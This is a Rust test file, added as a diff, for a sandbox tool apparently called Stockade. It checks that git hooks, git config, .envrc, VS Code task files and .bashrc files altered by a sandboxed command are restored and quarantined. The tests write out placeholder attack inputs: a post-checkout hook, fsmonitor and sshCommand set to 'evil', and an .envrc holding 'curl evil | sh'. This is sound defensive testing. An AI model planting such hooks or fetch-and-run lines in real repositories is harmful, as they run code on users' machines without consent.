@@ -1,0 +1,359 @@
+//! Protected names, end to end: what the host would later trust or run is put back, kept aside and named.
+#![allow(missing_docs, reason = "a test file")]
+
+#[cfg(test)]
+mod common;
+
+#[cfg(test)]
+mod tests {
+    use std::fs;
+    use std::os::unix::fs::{MetadataExt, PermissionsExt};
+    use std::path::{Path, PathBuf};
+    use std::time::{Duration, Instant};
+
+    use nix::sys::signal::{Signal, kill};
+    use nix::unistd::Pid;
+    use serde_json::Value;
+
+    use crate::common::{
+        Fixture, Run, as_root_and_as_user, assert_gone_within, descendants, marker, wait_for_processes,
+    };
+
+    as_root_and_as_user! {
+        a_hook_that_was_added_is_taken_away_and_kept ["git"];
+        a_changed_git_config_is_put_back ["git"];
+        a_git_directory_that_was_replaced_is_put_back ["git"];
+        a_bare_repository_planted_deep_is_disarmed ["git"];
+        editor_tasks_and_shell_files_are_taken_away [];
+        a_file_that_was_there_is_put_back_with_its_mode [];
+        closed_directories_do_not_keep_it_from_being_put_back ["git"];
+        several_changes_are_all_named [];
+        a_daemon_does_not_change_it_after_the_command [];
+        ordinary_work_with_git_is_no_violation ["git"];
+        a_killed_parent_does_not_keep_it_from_being_put_back ["git"];
+        what_killed_helpers_left_is_put_back_at_the_next_start ["git"];
+        a_session_elsewhere_is_not_kept_from_starting [];
+    }
+
+    /// A repository of the actor's in the workspace, with one commit.
+    fn repository(world: &Fixture) -> PathBuf {
+        let line =
+            "git init -q . && echo 1 > file && git add file && git -c user.name=n -c user.email=e commit -q -m one";
+        world.bare("/bin/sh").args(["-c", line]).output().ok();
+        world.workspace()
+    }
+
+    /// Everything below `folder` with its kind, mode and content.
+    fn state(folder: &Path) -> Vec<(PathBuf, u32, Vec<u8>)> {
+        let mut found = Vec::new();
+        let mut folders = vec![folder.to_owned()];
+        while let Some(folder) = folders.pop() {
+            for entry in fs::read_dir(&folder).unwrap().flatten() {
+                let meta = fs::symlink_metadata(entry.path()).unwrap();
+                let content = if meta.is_file() {
+                    fs::read(entry.path()).unwrap()
+                } else {
+                    Vec::new()
+                };
+                found.push((entry.path(), meta.mode(), content));
+                if meta.is_dir() {
+                    folders.push(entry.path());
+                }
+            }
+        }
+        found.sort();
+        found
+    }
+
+    /// What the outcome says was restored: path and place in quarantine.
+    fn restored(run: &Run) -> Vec<(String, Option<PathBuf>)> {
+        let outcome: Value = serde_json::from_str(&run.out()).unwrap();
+        assert_eq!(outcome["unsettled"], Value::Null, "{outcome}");
+        let list = outcome["restored"].as_array().unwrap();
+        list.iter()
+            .map(|one| {
+                let kept = one["quarantined"].as_str().map(PathBuf::from);
+                (one["path"].as_str().unwrap().to_owned(), kept)
+            })
+            .collect()
+    }
+
+    /// Runs `line` twice from the same state, for people and for programs; both say that `path` was put back.
+    /// Returns where the intruder is kept.
+    #[track_caller]
+    fn undone(world: &Fixture, line: &str, path: &str) -> Option<PathBuf> {
+        let before = state(&world.workspace());
+        let run = world.shell(line).output();
+        let said = run.err();
+        for word in [path, "protected", "restored"] {
+            assert!(said.contains(word), "`{word}` is not in: {said}");
+        }
+        assert_eq!(state(&world.workspace()), before, "{line}");
+        let run = world.stockade(&["run", "--json", "-c", line]).output();
+        assert_eq!(state(&world.workspace()), before, "{line}");
+        let list = restored(&run);
+        let (_, kept) = list
+            .iter()
+            .find(|(one, _)| one.ends_with(path))
+            .unwrap_or_else(|| panic!("{path} is not in {list:?}"));
+        kept.clone()
+    }
+
+    fn a_hook_that_was_added_is_taken_away_and_kept(world: &Fixture) {
+        repository(world);
+        let line =
+            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout";
+        let kept = undone(world, line, ".git/hooks/post-checkout").unwrap();
+        assert!(
+            fs::read_to_string(&kept).unwrap().contains("pwned"),
+            "{}",
+            kept.display()
+        );
+        // Outside every root, and nobody else's to read.
+        assert!(!kept.starts_with(world.workspace()));
+        assert_eq!(fs::metadata(kept.parent().unwrap()).unwrap().mode() & 0o077, 0);
+        // The commit that follows on the host runs nothing of it.
+        world
+            .bare("/usr/bin/git")
+            .args(["checkout", "-q", "-b", "other"])
+            .output()
+            .ok();
+        assert!(!Path::new("/tmp/pwned").exists());
+    }
+
+    fn a_changed_git_config_is_put_back(world: &Fixture) {
+        repository(world);
+        undone(world, "git config core.fsmonitor ./evil", ".git/config");
+        undone(
+            world,
+            "printf '[core]\\n\\tsshCommand = evil\\n' >> .git/config",
+            ".git/config",
+        );
+        undone(world, "rm .git/config", ".git/config");
+        undone(world, "mv .git/config c; ln -s ../c .git/config; rm c", ".git/config");
+        undone(
+            world,
+            "rm .git/config; mkdir .git/config; touch .git/config/x",
+            ".git/config",
+        );
+    }
+
+    fn a_git_directory_that_was_replaced_is_put_back(world: &Fixture) {
+        repository(world);
+        let head = fs::read(world.workspace().join(".git/HEAD")).unwrap();
+        for line in [
+            "mv .git moved; ln -s moved .git",
+            "cp -r .git copy; printf '[core]\\n\\tfsmonitor = evil\\n' >> copy/config; mv .git away; ln -s copy .git",
+            "mv .git away; echo 'gitdir: away' > .git; printf '[core]\\n\\tfsmonitor = evil\\n' >> away/config",
+        ] {
+            let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
+            assert!(!restored(&run).is_empty(), "{line}");
+            let git = fs::symlink_metadata(world.workspace().join(".git")).unwrap();
+            assert!(git.is_dir(), "{line}");
+            let config = fs::read_to_string(world.workspace().join(".git/config")).unwrap();
+            assert!(!config.contains("evil"), "{line}: {config}");
+            let said = world.bare("/usr/bin/git").args(["status", "--porcelain"]).output();
+            assert!(!said.err().contains("evil"), "{line}: {}", said.err());
+            assert_eq!(fs::read(world.workspace().join(".git/HEAD")).unwrap(), head, "{line}");
+        }
+    }
+
+    fn a_bare_repository_planted_deep_is_disarmed(world: &Fixture) {
+        let line = "mkdir -p a/b/c && cd a/b/c && git init -q --bare . && printf '[core]\\n\\tfsmonitor = evil\\n\\tworktree = .\\n' \
+                    >> config && echo '#!/bin/sh' > hooks/post-checkout && chmod +x hooks/post-checkout";
+        let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
+        let list = restored(&run);
+        assert!(list.iter().any(|(path, _)| path.contains("a/b/c")), "{list:?}");
+        let planted = world.workspace().join("a/b/c");
+        let config = fs::read_to_string(planted.join("config")).unwrap_or_default();
+        assert!(!config.contains("fsmonitor"), "{config}");
+        assert!(!planted.join("hooks/post-checkout").exists());
+    }
+
+    fn editor_tasks_and_shell_files_are_taken_away(world: &Fixture) {
+        for (line, path) in [
+            ("echo 'curl evil | sh' > .envrc", ".envrc"),
+            ("ln -s /bin/sh .envrc", ".envrc"),
+            ("mkdir .vscode; echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"),
+            (
+                "mkdir -p deep/er/.vscode; echo '{}' > deep/er/.vscode/tasks.json",
+                ".vscode/tasks.json",
+            ),
+            ("echo evil > .bashrc", ".bashrc"),
+        ] {
+            let run = world.stockade(&["run", "--json", "-c", line]).output().exits(0);
+            let list = restored(&run);
+            assert!(list.iter().any(|(one, _)| one.contains(path)), "{line}: {list:?}");
+            let left = world
+                .bare("/usr/bin/find")
+                .args([".", "-name", path.rsplit('/').next().unwrap()])
+                .output()
+                .ok();
+            assert_eq!(left, "", "{line}");
+        }
+        // Names beside them are nobody's business.
+        let run = world
+            .shell("echo x > envrc; mkdir vscode; echo x > vscode/tasks.json")
+            .output()
+            .exits(0);
+        assert!(!run.err().contains("protected and"), "{}", run.err());
+        assert!(world.workspace().join("vscode/tasks.json").exists());
+    }
+
+    fn a_file_that_was_there_is_put_back_with_its_mode(world: &Fixture) {
+        let file = world.write(".envrc", "export MINE=1\n");
+        fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
+        for line in [
+            "echo evil >> .envrc",
+            "rm .envrc",
+            "chmod 777 .envrc",
+            "rm .envrc; mkdir .envrc",
+            "mv .envrc x && rm x",
+            "ln .envrc other; echo evil >> other; rm other",
+        ] {
+            undone(world, line, ".envrc");
+            assert_eq!(fs::metadata(&file).unwrap().uid(), world.actor.uid(), "{line}");
+        }
+    }
+
+    /// Root without capabilities is shut out by a mode like anybody else, but may change the mode of what it owns.
+    fn closed_directories_do_not_keep_it_from_being_put_back(world: &Fixture) {
+        let line = "mkdir -p p && cd p && git init -q .";
+        world.bare("/bin/sh").args(["-c", line]).output().ok();
+        let config = world.workspace().join("p/.git/config");
+        let before = fs::read(&config).unwrap();
+        for close in [
+            "chmod 000 p/.git",
+            "chmod 000 p",
+            "chmod 000 p/.git/hooks p/.git p",
+            "chmod 600 p",
+            "chmod 000 p/.git/config",
+        ] {
+            let line = format!("echo evil >> p/.git/config; echo evil > p/.git/hooks/pre-commit; {close}");
+            let run = world.shell(&line).output().exits(0);
+            assert!(run.err().contains("protected"), "{close}: {}", run.err());
+            assert!(!run.err().contains("could not"), "{close}: {}", run.err());
+            // Whatever mode the directories have now: nothing of it is left in them.
+            for folder in ["p", "p/.git", "p/.git/hooks"] {
+                fs::set_permissions(world.workspace().join(folder), fs::Permissions::from_mode(0o755)).unwrap();
+            }
+            assert_eq!(fs::read(&config).unwrap(), before, "{close}");
+            assert!(!world.workspace().join("p/.git/hooks/pre-commit").exists(), "{close}");
+            // And the next command starts.
+            world.shell("true").output().exits(0);
+        }
+    }
+
+    fn several_changes_are_all_named(world: &Fixture) {
+        world.write("a/.envrc", "mine");
+        let line = "echo x > a/.envrc; echo x > .envrc; mkdir -p b/.vscode; echo x > b/.vscode/tasks.json";
+        let run = world.shell(line).output().exits(0);
+        for path in [
+            "a/.envrc is protected and was changed",
+            "b/.vscode/tasks.json is protected and was created",
+        ] {
+            assert!(run.err().contains(path), "{path}: {}", run.err());
+        }
+        assert_eq!(
+            run.err().matches("restored; what was there is kept in").count(),
+            3,
+            "{}",
+            run.err()
+        );
+    }
+
+    fn a_daemon_does_not_change_it_after_the_command(world: &Fixture) {
+        let line = "(while :; do echo evil > .envrc; done) & sleep 0.2; exit 3";
+        let run = world.shell(line).output().exits(3);
+        assert!(run.err().contains(".envrc"), "{}", run.err());
+        std::thread::sleep(Duration::from_millis(300));
+        assert!(!world.workspace().join(".envrc").exists());
+    }
+
+    fn ordinary_work_with_git_is_no_violation(world: &Fixture) {
+        let git = "git -c user.name=n -c user.email=e";
+        for line in [
+            format!("git init -q . && echo 1 > f && git add f && {git} commit -q -m one"),
+            format!("echo 2 > f && {git} commit -q -a -m two && git checkout -q -b side && git tag t && git gc -q"),
+            format!(
+                "git init -q sub && cd sub && echo 1 > f && git add f && {git} commit -q -m one && git clone -q . ../c"
+            ),
+            "git init -q --bare deep/er.git && git worktree add -q ../workspace/tree side~1 && git stash list"
+                .to_owned(),
+        ] {
+            let run = world.stockade(&["run", "--json", "-c", &line]).output().exits(0);
+            assert_eq!(restored(&run), [], "{line}");
+        }
+        world.bare("/usr/bin/git").args(["log", "--oneline"]).output().ok();
+        assert!(world.workspace().join("c/f").exists());
+    }
+
+    fn evil(marker: &str) -> String {
+        format!(
+            "echo evil >> .git/config; echo evil > .envrc; mkdir -p d/.vscode; echo x > d/.vscode/tasks.json; sleep {marker}"
+        )
+    }
+
+    fn assert_within(time: Duration, what: &str, holds: impl Fn() -> bool) {
+        let start = Instant::now();
+        while !holds() {
+            assert!(start.elapsed() < time, "{what}");
+            std::thread::sleep(Duration::from_millis(10));
+        }
+    }
+
+    fn a_killed_parent_does_not_keep_it_from_being_put_back(world: &Fixture) {
+        repository(world);
+        let (marker, config) = (marker(), fs::read(world.workspace().join(".git/config")).unwrap());
+        let running = world.shell(&evil(&marker)).spawn();
+        wait_for_processes(&marker, 1);
+        assert!(world.workspace().join(".envrc").exists());
+        running.signal(Signal::SIGKILL);
+        assert_gone_within(&marker, Duration::from_secs(1));
+        assert_within(Duration::from_secs(3), "the keeper did not put it back", || {
+            !world.workspace().join(".envrc").exists()
+                && !world.workspace().join("d/.vscode/tasks.json").exists()
+                && fs::read(world.workspace().join(".git/config")).unwrap() == config
+        });
+        running.wait().exits(137);
+    }
+
+    fn what_killed_helpers_left_is_put_back_at_the_next_start(world: &Fixture) {
+        repository(world);
+        let (marker, config) = (marker(), fs::read(world.workspace().join(".git/config")).unwrap());
+        let running = world.shell(&evil(&marker)).spawn();
+        wait_for_processes(&marker, 1);
+        // The keeper first, so that nobody is left to put anything back; then all the rest, then Stockade.
+        for pid in descendants(running.pid()) {
+            let _gone = kill(Pid::from_raw(pid), Signal::SIGKILL);
+        }
+        running.signal(Signal::SIGKILL);
+        running.wait().exits(137);
+        assert_gone_within(&marker, Duration::from_secs(1));
+        assert!(world.workspace().join(".envrc").exists());
+        world.shell("cat .git/config").output().exits(0);
+        assert!(!world.workspace().join(".envrc").exists());
+        assert!(!world.workspace().join("d/.vscode/tasks.json").exists());
+        assert_eq!(fs::read(world.workspace().join(".git/config")).unwrap(), config);
+    }
+
+    fn a_session_elsewhere_is_not_kept_from_starting(world: &Fixture) {
+        let elsewhere = world.write(world.outside().join("w/file"), "x");
+        let elsewhere = elsewhere.parent().unwrap().to_owned();
+        let marker = marker();
+        let line = format!("echo evil > .envrc; sleep {marker}");
+        let running = world.shell(&line).spawn();
+        wait_for_processes(&marker, 1);
+        // Two sessions at a time, each with a journal of its own.
+        let run = world
+            .shell("echo evil > .envrc; echo ran")
+            .cwd(&elsewhere)
+            .output()
+            .exits(0);
+        assert!(run.err().contains("w/.envrc"), "{}", run.err());
+        assert!(world.workspace().join(".envrc").exists());
+        running.signal_group(Signal::SIGINT);
+        running.wait().exits(130);
+        assert!(!world.workspace().join(".envrc").exists());
+    }
+}
